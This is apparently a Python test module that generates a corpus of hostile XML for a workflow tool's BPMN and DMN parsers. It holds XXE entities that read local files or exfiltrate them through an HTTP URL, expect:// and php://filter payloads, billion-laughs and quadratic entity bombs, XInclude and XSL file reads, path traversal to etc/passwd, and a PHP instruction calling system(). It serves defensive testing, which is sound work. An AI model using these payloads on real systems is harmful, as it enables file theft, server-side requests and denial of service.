"""XML that reads files, asks the network, or grows without end."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.security.doors.files import LOOKS
from tests.security.doors.languages import diagram
from tests.security.payload import Payload, control, payloads

__all__ = ["corpus"]

_MODEL = "http://www.omg.org/spec/BPMN/20100524/MODEL"
_BPMN = diagram(
    '<startEvent id="s" name="SLOT"/><userTask id="t" name="Ask"><documentation>BODY'
    '</documentation></userTask><endEvent id="e"/>',
    "s>t",
    "t>e",
)
_DMN = (
    '<definitions xmlns="https://www.omg.org/spec/DMN/20230324/MODEL/" name="SLOT" '
    'namespace="u"><decision id="d" name="d"><description>BODY</description><variable '
    'name="d"/><literalExpression><text>1</text></literalExpression></decision>'
    "</definitions>"
)
_CAMUNDA = _BPMN.replace("<documentation>", "<documentation>${x}")

FILES = {
    "BPMN file": _BPMN,
    "BPMN file, verified": _BPMN,
    "picture": _BPMN,
    **dict.fromkeys(LOOKS, _BPMN),
    "DMN file": _DMN,
    "import of Camunda 7": _CAMUNDA,
    "import of SpiffWorkflow": _BPMN,
}


def _laughs(levels: int, times: int) -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, levels)
    )
    return f"<!DOCTYPE definitions [{entities}]>"


# name: (prologue, what stands for SLOT in an attribute, for BODY in a text)
ENTITIES = {
    "file": (
        '<!DOCTYPE definitions [<!ENTITY x SYSTEM "file://{FILE}">]>',
        "n",
        "&x;",
    ),
    "file in an attribute": (
        '<!DOCTYPE definitions [<!ENTITY x SYSTEM "file://{FILE}">]>',
        "&x;",
        "b",
    ),
    "bare path": ('<!DOCTYPE definitions [<!ENTITY x SYSTEM "{FILE}">]>', "n", "&x;"),
    "http": ('<!DOCTYPE definitions [<!ENTITY x SYSTEM "{HTTP}">]>', "n", "&x;"),
    "ftp": (
        '<!DOCTYPE definitions [<!ENTITY x SYSTEM "ftp://127.0.0.1/x">]>',
        "n",
        "&x;",
    ),
    "public": ('<!DOCTYPE definitions [<!ENTITY x PUBLIC "p" "{HTTP}">]>', "n", "&x;"),
    "parameter file": (
        '<!DOCTYPE definitions [<!ENTITY % p SYSTEM "file://{FILE}"> %p;]>',
        "n",
        "b",
    ),
    "parameter http": (
        '<!DOCTYPE definitions [<!ENTITY % p SYSTEM "{HTTP}"> %p;]>',
        "n",
        "b",
    ),
    "parameter in a parameter": (
        (
            "<!DOCTYPE definitions [<!ENTITY % f SYSTEM 'file://{FILE}'><!ENTITY % e "
            "\"<!ENTITY &#37; x SYSTEM '{HTTP}?%f;'>\"> %e; %x;]>"
        ),
        "n",
        "b",
    ),
    "external DTD": ('<!DOCTYPE definitions SYSTEM "{HTTP}">', "n", "b"),
    "external DTD file": ('<!DOCTYPE definitions SYSTEM "file://{FILE}">', "n", "b"),
    "public DTD": ('<!DOCTYPE definitions PUBLIC "-//x//x" "{HTTP}">', "n", "b"),
    "notation": (
        (
            '<!DOCTYPE definitions [<!NOTATION n SYSTEM "{HTTP}"><!ENTITY x SYSTEM '
            '"file://{FILE}" NDATA n>]>'
        ),
        "n",
        "b",
    ),
    "default attribute": (
        '<!DOCTYPE definitions [<!ATTLIST userTask name CDATA "forged">]>',
        "n",
        "b",
    ),
    "internal entity": ('<!DOCTYPE definitions [<!ENTITY x "y">]>', "n", "&x;"),
    "bare DOCTYPE": ("<!DOCTYPE definitions>", "n", "b"),
    "empty subset": ("<!DOCTYPE definitions []>", "n", "b"),
    "expect": ('<!DOCTYPE d [<!ENTITY x SYSTEM "expect://id">]>', "n", "&x;"),
    "php filter": (
        '<!DOCTYPE d [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={FILE}">]>',
        "n",
        "&x;",
    ),
    "jar": ('<!DOCTYPE d [<!ENTITY x SYSTEM "jar:{HTTP}!/x">]>', "n", "&x;"),
    "device": ('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///dev/zero">]>', "n", "&x;"),
    "billion laughs": (_laughs(10, 10), "n", "&l9;"),
    "billion laughs in an attribute": (_laughs(10, 10), "&l9;", "b"),
    "million laughs": (_laughs(7, 10), "n", "&l6;"),
    "quadratic": (
        f'<!DOCTYPE definitions [<!ENTITY x "{"x" * 50_000}">]>',
        "n",
        "&x;" * 20_000,
    ),
    "recursion": (
        '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        "n",
        "&a;",
    ),
    "undeclared": ("", "n", "&nosuch;"),
    "many entities": (
        "<!DOCTYPE d [" + "".join(f'<!ENTITY e{n} "x">' for n in range(20_000)) + "]>",
        "n",
        "&e1;",
    ),
}

# name: (what stands for SLOT, for BODY); nothing of it may be followed
INCLUSIONS = {
    "XInclude": (
        "n",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{FILE}" parse="text"/>',
    ),
    "XInclude http": (
        "n",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{HTTP}"/>',
    ),
    "XInclude fallback": (
        "n",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{HTTP}"><xi:fallback><xi:include href="file://{FILE}" parse="text"/></xi:fallback></xi:include>',
    ),
    "base": ("n", '<b xml:base="{HTTP}" href="x"/>'),
    "HTML object": (
        "n",
        '<object xmlns="http://www.w3.org/1999/xhtml" data="{HTTP}"/>',
    ),
    "SVG image": (
        "n",
        '<image xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink" l:href="file://{FILE}"/>',
    ),
    "XSL document": (
        "n",
        "<xsl:value-of xmlns:xsl='http://www.w3.org/1999/XSL/Transform' select=\"document('file://{FILE}')\"/>",
    ),
    "XSL script": (
        "n",
        '<msxsl:script xmlns:msxsl="urn:schemas-microsoft-com:xslt" language="JScript">x</msxsl:script>',
    ),
    "stylesheet instruction": ("n", '<?xml-stylesheet type="text/xsl" href="{HTTP}"?>'),
    "PHP instruction": ("n", "<?php system('touch {OUT}'); ?>"),
    "python instruction": ("n", "<?python open('{OUT}', 'w') ?>"),
    "CDATA": ("n", "<![CDATA[<!ENTITY x SYSTEM 'file://{FILE}'>]]>"),
    "comment": ("n", "<!-- &x; <!ENTITY x SYSTEM 'file://{FILE}'> -"),
    "NUL": ("n\x00", "b"),
    "NUL reference": ("&#0;", "b"),
    "surrogate reference": ("&#xD800;", "b"),
    "beyond Unicode": ("&#x110000;", "b"),
    "endless reference": (f"&#{'9' * 5000};", "b"),
    "escape reference": ("&#x1b;[31m", "b"),
    "line break in an attribute": ("a&#10;b&#13;c", "b"),
    "attribute of a megabyte": ("x" * 1_000_000, "b"),
    "text of four megabytes": ("n", "x" * 4_000_000),
    "more than is read": ("n", "x" * 6_000_000),
    "deep": ("n", "<a>" * 255 + "</a>" * 255),
    "deeper": ("n", "<a>" * 20_000 + "</a>" * 20_000),
    "never closed": ("n", "<a>" * 200_000),
    "wide": ("n", "<a/>" * 200_000),
    "attributes": (
        '" ' + " ".join(f'a{n}="1"' for n in range(20_000)) + ' z="',
        "b",
    ),
    "equal attributes": ('" name="m', "b"),
    "namespaces": (
        "n",
        "<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(10_000)) + "/>",
    ),
    "namespaces in depth": (
        "n",
        "".join(f'<n{n}:a xmlns:n{n}="u{n}">' for n in range(200))
        + "".join(f"</n{n}:a>" for n in reversed(range(200))),
    ),
    "undeclared prefix": ("n", "<nosuch:a/>"),
    "xmlns of xml": ("n", '<a xmlns:xml="urn:other"/>'),
    "empty prefix": ("n", '<a xmlns:b=""/>'),
    "ids": ("n", "".join(f'<a id="i{n}"/>' for n in range(100_000))),
    "one id": ("n", '<a id="t"/>' * 100_000),
    "schema location": (
        '" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="u {HTTP}" z="',
        "b",
    ),
    "schema without namespace": (
        '" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{HTTP}" z="',
        "b",
    ),
    "instructions": ("n", "<?a b?>" * 100_000),
    "comments": ("n", "<!--a-->" * 100_000),
    "references": ("n", "&#65;" * 200_000),
    "ampersand": ("n", "&"),
    "CDATA end": ("n", "]]>"),
}


def _filled(text: str, slot: str, body: str, head: str = "") -> str:
    return head + text.replace("SLOT", slot).replace("BODY", body)


def _imports(text: str) -> dict[str, str]:
    """Return files that name other files."""
    head, _, rest = text.partition(">")
    tag = (
        '<import importType="http://www.omg.org/spec/DMN/20230324/MODEL/" name="i" '
        'namespace="{u}" locationURI="{l}"/>'
        if "DMN" in head
        else f'<import importType="{_MODEL}" namespace="{{u}}" location="{{l}}"/>'
    )
    places = {
        "file": "file://{FILE}",
        "path": "{FILE}",
        "http": "{HTTP}",
        "up": "../outside/canary.txt",
        "far up": "../" * 20 + "etc/passwd",
        "network share": "\\\\\\\\127.0.0.1\\\\share",
    }
    return {
        f"import {name}": f"{head}>{tag.replace('{u}', place).replace('{l}', place)}{rest}"
        for name, place in places.items()
    }


def _encoded(text: str) -> dict[str, str | bytes]:
    """Return the file in encodings that hide what it says."""
    hidden = (
        '<!DOCTYPE definitions [<!ENTITY x SYSTEM "file://{FILE}">]>'
        + text.replace("BODY", "&x;")
    )
    declared = '<?xml version="1.0" encoding="{}"?>'
    found: dict[str, str | bytes] = {
        f"{name} with a DOCTYPE": (declared.format(name) + hidden).encode(codec)
        for name, codec in (
            ("UTF-16", "utf-16"),
            ("UTF-16BE", "utf-16-be"),
            ("UTF-16LE", "utf-16-le"),
            ("UTF-32", "utf-32"),
            ("UTF-7", "utf-7"),
            ("IBM037", "cp037"),
            ("IBM1047", "cp1140"),
            ("ISO-2022-JP", "iso2022_jp"),
            ("windows-1251", "cp1251"),
            ("koi8-r", "koi8_r"),
            ("Shift_JIS", "shift_jis"),
        )
    }
    for name in ("klingon", 'utf-8" standalone="no', "unicode_escape", "rot13", "hex"):
        found[f"declared {name}"] = declared.format(name) + text
    found["wrong bytes"] = text.encode().replace(b"BODY", b"\xff\xfe\xfa")
    found["byte order mark twice"] = b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode()
    found["overlong UTF-8"] = text.encode().replace(b"BODY", b"\xc0\xbc")
    found["surrogates in UTF-8"] = text.encode().replace(b"BODY", b"\xed\xa0\x80")
    found["declaration of XML 1.1"] = '<?xml version="1.1"?>' + text
    found["declaration of XML 9"] = '<?xml version="9.9"?>' + text
    found["no XML"] = b"\x00\x01\x02"
    found["empty"] = b""
    found["blank"] = b" \n\t "
    found["zip"] = b"PK\x03\x04" + b"\x00" * 200
    found["gzip"] = b"\x1f\x8b\x08\x00" + b"\x00" * 200
    found["cut"] = text[: len(text) // 2]
    found["two roots"] = text + text
    found["another root"] = "<html><script>alert(1)</script></html>"
    found["definitions of another world"] = '<definitions xmlns="urn:other"/>'
    found["no namespace"] = "<definitions/>"
    found["endless name"] = f"<{'a' * 300_000}/>"
    return found


def corpus() -> Iterator[Payload]:
    """Yield hostile XML for everything that reads some."""
    for target, text in FILES.items():
        yield control("XML", target, text)
        rows = [
            (name, partial(_filled, text, slot, body, head))
            for name, (head, slot, body) in ENTITIES.items()
        ]
        yield from payloads("XML entities", target, rows, outcome="refused")
        yield control("XML entities", target, text, name="no entity")
        rows = [
            (name, partial(_filled, text, slot, body))
            for name, (slot, body) in INCLUSIONS.items()
        ]
        yield from payloads("XML", target, rows)
        yield from payloads("XML", target, _imports(text).items())
        yield from payloads("XML encodings", target, _encoded(text).items())
        declared = '<?xml version="1.0" encoding="UTF-16"?>' + text.replace("SLOT", "Ы")
        yield control("XML encodings", target, declared.encode("utf-16"))
